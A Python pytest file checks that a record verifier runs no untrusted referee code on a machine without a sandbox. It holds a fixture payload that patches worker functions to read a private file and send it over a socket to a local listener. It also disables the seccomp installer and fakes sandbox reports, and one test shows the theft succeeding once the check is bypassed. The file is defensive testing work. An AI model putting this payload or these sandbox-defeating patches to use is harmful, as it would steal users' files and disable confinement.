"""A record that attacks its reader on a machine without a jail. Stopped by
verifier/replay.py.

The referee of the record reads a private file and calls home with it; the language is lost
already, so only a wall could stop it. Where there is none, nothing may be executed.
"""

from __future__ import annotations

import socket
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
import pytest_asyncio

from mcp_multiplayer.sandbox.host import forkserver, selftest
from mcp_multiplayer.verifier.verdict import CONTAINER
from tests.verifier.games import Bundle, codes, states, table, verify, violations

pytestmark = pytest.mark.asyncio(loop_scope="module")

REFEREE = """
class ServantBot:
    def on_message(self, message):
        self.ctx.post("bot", {"text": "at your service"})
"""
#: In the hooks' parent: the language is lost, and nothing else stands.
LOST = """
import _socket
from mcp_multiplayer.sandbox.jail import confinement, seccomp
from mcp_multiplayer.sandbox.worker import serve
from mcp_multiplayer.sandbox.jail.isolation import Walls
guarded, read = serve.answer, serve.compile_source
def steal():
    caller = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    caller.connect(("127.0.0.1", {port}))
    with open({private!r}, "rb") as file:
        caller.sendall(file.read())
serve.answer = lambda *args, **more: (steal(), guarded(*args, **more))[1]
serve.compile_source = lambda *texts: (steal(), read(*texts))[1]
seccomp.install = lambda *_: None
"""
#: What a machine has instead of the kernel's filter.
INSTEAD = {
    "nothing": "confinement.survey = lambda *_: Walls()",
    "a processor without a table": "seccomp.fault = lambda: 'seccomp: no table for riscv64'",
    "Landlock, another user and namespaces": "seccomp.fault = lambda: 'seccomp: none'",
    "a filter that only claims to be there": "confinement.survey = lambda *_: Walls(seccomp=True)",
}
SECRET = b"of-the-reader-51c0"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def record() -> AsyncIterator[Bundle]:
    async with table() as server:
        game = await (await server.open(code=REFEREE)).seated()
        await game.say("alice", "hello")
        yield game.bundle()


class Caller:
    """Somebody who waits for what the referee brings, and the reader's own file."""

    def __init__(self, private: Path) -> None:
        private.write_bytes(SECRET)
        self.private = private
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._listener.setblocking(False)

    def program(self, instead: str) -> str:
        """The hooks' parent on a machine that has this instead of a wall."""
        first, last = forkserver.PROGRAM.strip().rsplit("\n", 1)
        port = self._listener.getsockname()[1]
        lost = LOST.format(private=str(self.private), port=port)
        return "\n".join([first, lost, instead, last])

    def heard(self) -> bytes:
        """What was brought; called when nobody runs any more."""
        try:
            caller, _ = self._listener.accept()
        except BlockingIOError:
            return b""
        with caller:
            caller.setblocking(True)
            return caller.recv(99)

    def close(self) -> None:
        self._listener.close()


@pytest.fixture
def caller(tmp_path: Path) -> Iterator[Caller]:
    made = Caller(tmp_path / "private")
    yield made
    made.close()


@pytest.mark.parametrize("name", INSTEAD)
async def test_nothing_is_executed_without_a_wall(
    record: Bundle, caller: Caller, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.setattr(forkserver, "PROGRAM", caller.program(INSTEAD[name]))
    checked = verify(record)
    assert caller.heard() == b""
    rules = next(one for one in checked.verdicts if one.line == "RULES")
    assert (rules.state, "I_NO_WALL" in codes(checked)) == ("NOT PROVEN", True)
    assert CONTAINER in rules.settle.split("\n")
    assert not violations(checked) and states(checked)["RECORD"] == "NOT PROVEN"  # it goes on
    assert checked.walls == "" and checked.walked.bench and not checked.walked.bench.tally.executed


async def test_the_attack_is_a_real_one(
    record: Bundle, caller: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without the check it succeeds, and RULES would be PROVEN."""
    instead = INSTEAD["a filter that only claims to be there"]
    monkeypatch.setattr(forkserver, "PROGRAM", caller.program(instead))

    async def believed(*_: object) -> tuple[int, tuple[str, ...]]:
        return 1, ()

    monkeypatch.setattr(selftest, "examine", believed)
    assert states(verify(record))["RULES"] == "PROVEN"
    assert caller.heard() == SECRET
